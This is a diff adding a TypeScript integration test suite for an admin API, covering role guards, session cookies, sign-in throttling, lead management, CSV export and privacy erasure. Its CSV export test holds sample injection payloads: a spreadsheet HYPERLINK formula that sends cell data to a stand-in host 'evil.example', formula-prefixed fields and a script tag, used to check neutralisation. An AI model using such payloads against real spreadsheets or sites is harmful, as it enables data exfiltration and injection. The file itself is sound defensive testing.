@@ -1,0 +1,372 @@
+/**
+ * Accounts and the admin API over HTTP, on PGlite in memory and on a real
+ * PostgreSQL server (issue 5; R-ROLE-03, R-ROLE-07, R-ROLE-08, R-OPEN-10,
+ * R-OPEN-12, R-OPEN-13, R-OPEN-51).
+ */
+import { count, eq } from "drizzle-orm";
+import Papa from "papaparse";
+import { afterAll, beforeAll, beforeEach, describe, expect, inject, it } from "vitest";
+import type { AuditEntry, EnquiryDetail, EnquirySummary, Overview, Page, PrivacyReport, SubscriberRow, WaitlistRow } from "../../core/admin-api";
+import { revokeAdmin } from "./accounts.server";
+import { LOGIN_LIMITS } from "../auth/login-throttle.server";
+import { androidWaitlist, auditLog, contactEnquiries, newsletterSubscribers, userRoles } from "../db/schema";
+import { createHarness, type Harness } from "../test-support/api-harness";
+
+const databases = [["PGlite", "memory://"], ["PostgreSQL", inject("postgresUrl")]].filter(
+  (entry): entry is [string, string] => Boolean(entry[1]),
+);
+
+const ADMIN = { email: "ops@drivebee.ae", password: "correct-horse-battery-staple" };
+const MEMBER = { email: "member@drivebee.ae", password: "another-long-password" };
+const SOME_ID = "00000000-0000-4000-8000-000000000000";
+
+describe.each(databases)("accounts and /api/admin on %s", (_name, databaseUrl) => {
+  let api: Harness;
+  let adminCookie: string;
+  let memberCookie: string;
+
+  beforeAll(async () => {
+    api = await createHarness({ databaseUrl });
+  });
+  afterAll(async () => {
+    await api.close();
+  });
+  beforeEach(async () => {
+    await api.reset();
+    await api.createUser(ADMIN.email, ADMIN.password);
+    await api.createUser(MEMBER.email, MEMBER.password, { admin: false });
+    adminCookie = await api.sessionCookie(ADMIN.email, ADMIN.password);
+    memberCookie = await api.sessionCookie(MEMBER.email, MEMBER.password);
+  });
+
+  /** Every admin route the router knows, read from the router itself. */
+  function adminRoutes() {
+    return api.app.routes
+      .filter((route) => route.path.startsWith("/api/admin/") && route.method !== "ALL")
+      .map((route) => ({ method: route.method, path: route.path.replace(/:id\b/g, SOME_ID).replace(/^\/api/, "") }));
+  }
+
+  async function sendContact(fields: Record<string, string>, ip = "203.0.113.50") {
+    const token = await api.csrf(ip);
+    const response = await api.call("contact-submit", {
+      ip,
+      body: {
+        firstName: "Layla",
+        lastName: "Haddad",
+        email: "layla@example.com",
+        subject: "Question about cashback",
+        message: "How is the cashback paid at renewal?",
+        ...token,
+        ...fields,
+      },
+    });
+    expect(response.status).toBe(201);
+  }
+
+  describe("the guard (R-ROLE-08, R-OPEN-12)", () => {
+    it("finds every admin route in the router, at least the dozen this issue built", () => {
+      const routes = adminRoutes();
+      expect(routes.length).toBeGreaterThanOrEqual(12);
+      expect(routes).toContainEqual({ method: "PATCH", path: `/admin/enquiries/${SOME_ID}` });
+      expect(routes).toContainEqual({ method: "POST", path: "/admin/privacy/erase" });
+    });
+
+    it("answers 401 without a session and 403 without the admin role on every admin route", async () => {
+      for (const { method, path } of adminRoutes()) {
+        const body = method === "GET" ? undefined : {};
+        const anonymous = await api.api(path, { method, body });
+        expect(anonymous.status, `${method} ${path} anonymous`).toBe(401);
+        // The public key is not a session either.
+        const withKey = await api.api(path, { method, body, headers: { apikey: "test-public-key", authorization: "Bearer test-public-key" } });
+        expect(withKey.status, `${method} ${path} with the public key`).toBe(401);
+        const member = await api.api(path, { method, body, cookie: memberCookie });
+        expect(member.status, `${method} ${path} non-admin`).toBe(403);
+        const admin = await api.api(path, { method, body, cookie: adminCookie });
+        expect([401, 403], `${method} ${path} admin`).not.toContain(admin.status);
+      }
+    });
+
+    it("checks the role on every request: revoking it locks out an open session", async () => {
+      expect((await api.api("/admin/overview", { cookie: adminCookie })).status).toBe(200);
+      await revokeAdmin({ db: api.db, actor: { id: null, email: "cli:test" } }, ADMIN.email);
+      expect((await api.api("/admin/overview", { cookie: adminCookie })).status).toBe(401);
+      // Role only (sessions kept): 403.
+      const again = await api.sessionCookie(ADMIN.email, ADMIN.password);
+      expect((await api.api("/admin/overview", { cookie: again })).status).toBe(403);
+    });
+
+    it("refuses a change from another site even with the admin's cookie", async () => {
+      await sendContact({});
+      const [row] = await api.db.select().from(contactEnquiries);
+      const response = await api.api(`/admin/enquiries/${row!.id}`, {
+        method: "PATCH",
+        body: { status: "resolved" },
+        cookie: adminCookie,
+        headers: { origin: "https://evil.example", "sec-fetch-site": "cross-site" },
+      });
+      expect(response.status).toBe(403);
+      expect((await api.db.select().from(contactEnquiries))[0]!.status).toBe("new");
+    });
+
+    it("lets a user read only their own roles (spec §7 call 6)", async () => {
+      expect((await api.api("/me/roles")).status).toBe(401);
+      const admin = (await (await api.api("/me/roles", { cookie: adminCookie })).json()) as { roles: string[] };
+      expect(admin.roles).toEqual(["admin"]);
+      const member = (await (await api.api("/me/roles", { cookie: memberCookie })).json()) as { roles: string[] };
+      expect(member.roles).toEqual([]);
+    });
+  });
+
+  describe("sign-in (R-ROLE-07, R-OPEN-13)", () => {
+    it("sets an httpOnly, Secure, SameSite=Strict session cookie and reports the session", async () => {
+      const response = await api.signIn(ADMIN.email.toUpperCase(), ADMIN.password);
+      expect(response.status).toBe(200);
+      const cookies = response.headers.getSetCookie();
+      const sessionCookie = cookies.find((cookie) => cookie.includes("session_token"));
+      expect(sessionCookie).toMatch(/HttpOnly/i);
+      expect(sessionCookie).toMatch(/Secure/i);
+      expect(sessionCookie).toMatch(/SameSite=Strict/i);
+      const session = (await (await api.api("/auth/get-session", { cookie: adminCookie })).json()) as {
+        user: { email: string };
+        session: { expiresAt: string };
+      };
+      expect(session.user.email).toBe(ADMIN.email);
+      expect(new Date(session.session.expiresAt).getTime()).toBeGreaterThan(Date.now());
+    });
+
+    it("gives the same answer for a wrong password and an unknown address", async () => {
+      const wrongPassword = await api.signIn(ADMIN.email, "not-the-password");
+      const unknown = await api.signIn("nobody@drivebee.ae", "not-the-password");
+      expect(wrongPassword.status).toBe(401);
+      expect(unknown.status).toBe(401);
+      expect(await wrongPassword.json()).toEqual({ error: "Invalid email or password" });
+      expect(await unknown.json()).toEqual({ error: "Invalid email or password" });
+    });
+
+    it("offers no public sign-up and none of the other account endpoints", async () => {
+      const signUp = await api.api("/auth/sign-up/email", { method: "POST", body: { email: "new@example.com", password: "a-long-password-1", name: "New" } });
+      expect(signUp.status).toBe(404);
+      expect((await api.api("/auth/request-password-reset", { method: "POST", body: { email: ADMIN.email } })).status).toBe(404);
+      const [{ n }] = (await api.db.execute(`select count(*)::int as n from auth_users`)).rows as [{ n: number }];
+      expect(n).toBe(2);
+    });
+
+    it("signs out: the cookie no longer opens a session", async () => {
+      const response = await api.api("/auth/sign-out", { method: "POST", body: {}, cookie: adminCookie });
+      expect(response.status).toBe(200);
+      expect((await api.api("/admin/overview", { cookie: adminCookie })).status).toBe(401);
+    });
+
+    it(`locks an account for 15 minutes after ${LOGIN_LIMITS.accountFailures} failures in a row, from any address`, async () => {
+      for (let attempt = 0; attempt < LOGIN_LIMITS.accountFailures; attempt++) {
+        const response = await api.signIn(ADMIN.email, `wrong-${attempt}`, { ip: `192.0.2.${attempt + 1}` });
+        expect(response.status).toBe(401);
+      }
+      const locked = await api.signIn(ADMIN.email, ADMIN.password, { ip: "192.0.2.200" });
+      expect(locked.status).toBe(429);
+      expect(Number(locked.headers.get("retry-after"))).toBeGreaterThan(14 * 60);
+      expect(((await locked.json()) as { error: string }).error).toBe("Too many sign-in attempts. Please try again in 15 minutes.");
+      // Other accounts are not affected.
+      expect((await api.signIn(MEMBER.email, MEMBER.password, { ip: "192.0.2.200" })).status).toBe(200);
+      api.advance(LOGIN_LIMITS.lockMs + 1000);
+      expect((await api.signIn(ADMIN.email, ADMIN.password, { ip: "192.0.2.200" })).status).toBe(200);
+    });
+
+    it("locks a non-existent address exactly like a real one (a lock reveals nothing)", async () => {
+      for (let attempt = 0; attempt < LOGIN_LIMITS.accountFailures; attempt++) {
+        await api.signIn("ghost@drivebee.ae", `wrong-${attempt}`, { ip: `192.0.2.${attempt + 1}` });
+      }
+      expect((await api.signIn("ghost@drivebee.ae", "whatever-it-is", { ip: "192.0.2.99" })).status).toBe(429);
+    });
+
+    it("a success resets the count: failures must be consecutive", async () => {
+      for (let round = 0; round < 2; round++) {
+        for (let attempt = 0; attempt < LOGIN_LIMITS.accountFailures - 1; attempt++) {
+          expect((await api.signIn(ADMIN.email, "wrong-password", { ip: `192.0.2.${attempt + 1}` })).status).toBe(401);
+        }
+        expect((await api.signIn(ADMIN.email, ADMIN.password)).status).toBe(200);
+      }
+    });
+
+    it(`limits one address to ${LOGIN_LIMITS.ipFailures} failures, so it cannot lock out everyone`, async () => {
+      const ip = "198.51.100.66";
+      for (let attempt = 0; attempt < LOGIN_LIMITS.ipFailures; attempt++) {
+        // Spread over many addresses, none reaching its own account limit.
+        expect((await api.signIn(`victim${attempt % 5}@drivebee.ae`, "guess", { ip })).status).toBe(401);
+      }
+      expect((await api.signIn("victim9@drivebee.ae", "guess", { ip })).status).toBe(429);
+      // The admin, from their own address, is not locked out.
+      expect((await api.signIn(ADMIN.email, ADMIN.password, { ip: "198.51.100.1" })).status).toBe(200);
+    });
+
+    it("rejects a malformed login with the same message and no lookup", async () => {
+      const response = await api.api("/auth/sign-in/email", { method: "POST", body: { email: "not-an-email", password: "" } });
+      expect(response.status).toBe(400);
+      expect(await response.json()).toEqual({ error: "Invalid email or password" });
+    });
+  });
+
+  describe("the leads (R-OPEN-10, R-OPEN-51)", () => {
+    it("shows the admin exactly the leads created through the public functions", async () => {
+      await sendContact({ firstName: "Omar", email: "omar@example.com", subject: "Fleet policy" });
+      await sendContact({ firstName: "Aisha", email: "aisha@example.com", subject: "Cashback timing" }, "203.0.113.51");
+      const newsletterToken = await api.csrf();
+      expect((await api.call("newsletter-signup", { body: { email: "reader@example.com", source: "footer", userAgent: "test", ...newsletterToken } })).status).toBe(201);
+      expect((await api.call("android-waitlist-signup", { body: { email: "android@example.com" } })).status).toBe(200);
+
+      const enquiries = (await (await api.api("/admin/enquiries", { cookie: adminCookie })).json()) as Page<EnquirySummary>;
+      expect(enquiries.total).toBe(2);
+      expect(enquiries.pageSize).toBe(50);
+      expect(enquiries.rows.map((row) => row.email).sort()).toEqual(["aisha@example.com", "omar@example.com"]);
+      const subscribers = (await (await api.api("/admin/subscribers", { cookie: adminCookie })).json()) as Page<SubscriberRow>;
+      expect(subscribers.rows.map((row) => [row.email, row.source, row.status])).toEqual([["reader@example.com", "footer", "subscribed"]]);
+      const waitlist = (await (await api.api("/admin/waitlist", { cookie: adminCookie })).json()) as Page<WaitlistRow>;
+      expect(waitlist.rows.map((row) => row.email)).toEqual(["android@example.com"]);
+
+      const overview = (await (await api.api("/admin/overview", { cookie: adminCookie })).json()) as Overview;
+      expect(overview.openEnquiries).toBe(2);
+      expect(overview.enquiries).toEqual({ today: 2, last7Days: 2, last30Days: 2, total: 2 });
+      expect(overview.subscribers.today).toBe(1);
+      expect(overview.waitlist.last30Days).toBe(1);
+      expect(overview.daily).toHaveLength(30);
+      expect(overview.daily.at(-1)).toMatchObject({ enquiries: 2, subscribers: 1, waitlist: 1 });
+    });
+
+    it("searches, pages at 50 rows and filters by status", async () => {
+      const rows = Array.from({ length: 55 }, (_, index) => ({
+        firstName: "Test",
+        lastName: `Person${index}`,
+        email: `person${index}@example.com`,
+        subject: index === 7 ? "Windscreen 100%_claim" : "General question",
+        message: "A message long enough.",
+      }));
+      await api.db.insert(contactEnquiries).values(rows);
+      const first = (await (await api.api("/admin/enquiries", { cookie: adminCookie })).json()) as Page<EnquirySummary>;
+      expect(first.rows).toHaveLength(50);
+      expect(first.total).toBe(55);
+      const second = (await (await api.api("/admin/enquiries?page=2", { cookie: adminCookie })).json()) as Page<EnquirySummary>;
+      expect(second.rows).toHaveLength(5);
+      // % and _ are literal characters in a search.
+      const found = (await (await api.api(`/admin/enquiries?q=${encodeURIComponent("100%_c")}`, { cookie: adminCookie })).json()) as Page<EnquirySummary>;
+      expect(found.rows.map((row) => row.email)).toEqual(["person7@example.com"]);
+      const none = (await (await api.api(`/admin/enquiries?status=resolved`, { cookie: adminCookie })).json()) as Page<EnquirySummary>;
+      expect(none.total).toBe(0);
+      expect((await api.api("/admin/enquiries?page=0", { cookie: adminCookie })).status).toBe(400);
+      expect((await api.api("/admin/enquiries?status=deleted", { cookie: adminCookie })).status).toBe(400);
+    });
+
+    it("moves an enquiry new → in_progress → resolved, persists it and audits who did it", async () => {
+      await sendContact({});
+      const [row] = await api.db.select().from(contactEnquiries);
+      for (const status of ["in_progress", "resolved"] as const) {
+        const response = await api.api(`/admin/enquiries/${row!.id}`, { method: "PATCH", body: { status }, cookie: adminCookie });
+        expect(response.status).toBe(200);
+      }
+      const detail = (await (await api.api(`/admin/enquiries/${row!.id}`, { cookie: adminCookie })).json()) as EnquiryDetail;
+      expect(detail.status).toBe("resolved");
+      expect(detail.resolvedAt).not.toBeNull();
+      expect(detail.message).toBe("How is the cashback paid at renewal?");
+      const audit = (await (await api.api("/admin/audit", { cookie: adminCookie })).json()) as Page<AuditEntry>;
+      const changes = audit.rows.filter((entry) => entry.action === "enquiry.status");
+      expect(changes.map((entry) => [entry.actorEmail, entry.details])).toEqual([
+        [ADMIN.email, { from: "in_progress", to: "resolved" }],
+        [ADMIN.email, { from: "new", to: "in_progress" }],
+      ]);
+      expect((await api.api(`/admin/enquiries/${row!.id}`, { method: "PATCH", body: { status: "closed" }, cookie: adminCookie })).status).toBe(400);
+      expect((await api.api(`/admin/enquiries/${SOME_ID}`, { method: "PATCH", body: { status: "resolved" }, cookie: adminCookie })).status).toBe(404);
+      expect((await api.api(`/admin/enquiries/not-a-uuid`, { cookie: adminCookie })).status).toBe(404);
+    });
+
+    it("exports a hostile enquiry as inert CSV text (formulas neutralised, markup as text)", async () => {
+      await sendContact({
+        firstName: "Eve",
+        lastName: "Attacker",
+        subject: '=HYPERLINK("https://evil.example?x="&A1,"Click")',
+        message: "@SUM(1+1) and <b>markup</b> in the text, plus a quote \" and a comma, here",
+      });
+      // Stored directly: the public form would refuse these, an old row or another channel might not.
+      await api.db.insert(contactEnquiries).values({
+        firstName: "+cmd",
+        lastName: "-2+3",
+        email: "=1+1@example.com",
+        subject: "\tTab start",
+        message: "\r\n=danger <script>alert(1)</script>",
+      });
+      const response = await api.api("/admin/enquiries/export.csv", { cookie: adminCookie });
+      expect(response.status).toBe(200);
+      expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
+      expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="enquiries-\d{4}-\d{2}-\d{2}\.csv"$/);
+      const text = await response.text();
+      const parsed = Papa.parse<Record<string, string>>(text.replace(/^\uFEFF/, ""), { header: true, skipEmptyLines: true });
+      expect(parsed.errors).toEqual([]);
+      for (const row of parsed.data) {
+        for (const [column, value] of Object.entries(row)) {
+          expect(value, `${column}: ${value}`).not.toMatch(/^\s*[=+\-@]|^[\t\r]/);
+        }
+      }
+      const hostile = parsed.data.find((row) => row.first_name === "Eve")!;
+      expect(hostile.subject).toBe(`'=HYPERLINK("https://evil.example?x="&A1,"Click")`);
+      expect(hostile.message).toBe(`'@SUM(1+1) and <b>markup</b> in the text, plus a quote " and a comma, here`);
+      const raw = parsed.data.find((row) => row.email === "'=1+1@example.com")!;
+      expect(raw.first_name).toBe("'+cmd");
+      expect(raw.last_name).toBe("'-2+3");
+      expect(raw.subject).toBe("'\tTab start");
+      expect(raw.message).toBe("'\r\n=danger <script>alert(1)</script>");
+    });
+
+    it("unsubscribes a subscriber and marks a waitlist entry notified, with CSV exports", async () => {
+      const [subscriber] = await api.db.insert(newsletterSubscribers).values({ email: "reader@example.com", source: "popup" }).returning();
+      const [entry] = await api.db.insert(androidWaitlist).values({ email: "android@example.com" }).returning();
+      const unsubscribed = (await (await api.api(`/admin/subscribers/${subscriber!.id}/unsubscribe`, { method: "POST", body: {}, cookie: adminCookie })).json()) as SubscriberRow;
+      expect(unsubscribed.status).toBe("unsubscribed");
+      expect(unsubscribed.unsubscribedAt).not.toBeNull();
+      const notified = (await (await api.api(`/admin/waitlist/${entry!.id}/notified`, { method: "POST", body: {}, cookie: adminCookie })).json()) as WaitlistRow;
+      expect(notified.notifiedAt).not.toBeNull();
+      const pending = (await (await api.api("/admin/waitlist?notified=no", { cookie: adminCookie })).json()) as Page<WaitlistRow>;
+      expect(pending.total).toBe(0);
+
+      const subscribersCsv = await (await api.api("/admin/subscribers/export.csv", { cookie: adminCookie })).text();
+      expect(subscribersCsv).toContain('"reader@example.com","unsubscribed","popup"');
+      const waitlistCsv = await (await api.api("/admin/waitlist/export.csv", { cookie: adminCookie })).text();
+      expect(waitlistCsv).toContain('"android@example.com","app_download_dialog"');
+      const actions = (await api.db.select({ action: auditLog.action }).from(auditLog)).map((row) => row.action);
+      expect(actions).toEqual(expect.arrayContaining(["subscriber.unsubscribe", "waitlist.notified", "subscribers.export", "waitlist.export"]));
+    });
+  });
+
+  describe("the privacy request tool", () => {
+    it("finds everything stored for an address and erases it after confirmation", async () => {
+      await sendContact({ email: "Subject@Example.com" });
+      await api.db.insert(newsletterSubscribers).values({ email: "subject@example.com", source: "footer" });
+      await api.db.insert(androidWaitlist).values({ email: "subject@example.com" });
+      await api.db.insert(newsletterSubscribers).values({ email: "bystander@example.com", source: "footer" });
+
+      const report = (await (await api.api("/admin/privacy?email=SUBJECT%40example.com", { cookie: adminCookie })).json()) as PrivacyReport;
+      expect([report.subscribers.length, report.waitlist.length, report.enquiries.length]).toEqual([1, 1, 1]);
+
+      const mismatch = await api.api("/admin/privacy/erase", { method: "POST", body: { email: "subject@example.com", confirmEmail: "other@example.com" }, cookie: adminCookie });
+      expect(mismatch.status).toBe(400);
+      expect(await mismatch.json()).toEqual({ error: "The confirmation does not match the address", field: "confirmEmail" });
+
+      const erased = await api.api("/admin/privacy/erase", { method: "POST", body: { email: "subject@example.com", confirmEmail: "Subject@example.com" }, cookie: adminCookie });
+      expect(await erased.json()).toEqual({ email: "subject@example.com", deleted: { subscribers: 1, waitlist: 1, enquiries: 1 } });
+      const left = await Promise.all([
+        api.db.select({ n: count() }).from(newsletterSubscribers),
+        api.db.select({ n: count() }).from(androidWaitlist),
+        api.db.select({ n: count() }).from(contactEnquiries),
+      ]);
+      expect(left.map(([row]) => row!.n)).toEqual([1, 0, 0]);
+      const [entry] = await api.db.select().from(auditLog).where(eq(auditLog.action, "privacy.erase"));
+      expect(entry).toMatchObject({ actorEmail: ADMIN.email, target: "s***@example.com", details: { subscribers: 1, waitlist: 1, enquiries: 1 } });
+      // The log never holds the erased address itself.
+      const everything = JSON.stringify(await api.db.select().from(auditLog));
+      expect(everything).not.toContain("subject@example.com");
+    });
+  });
+
+  it("keeps the roles in user_roles (R-ROLE-03)", async () => {
+    const rows = await api.db.select().from(userRoles);
+    expect(rows).toHaveLength(1);
+    expect(rows[0]!.role).toBe("admin");
+  });
+});
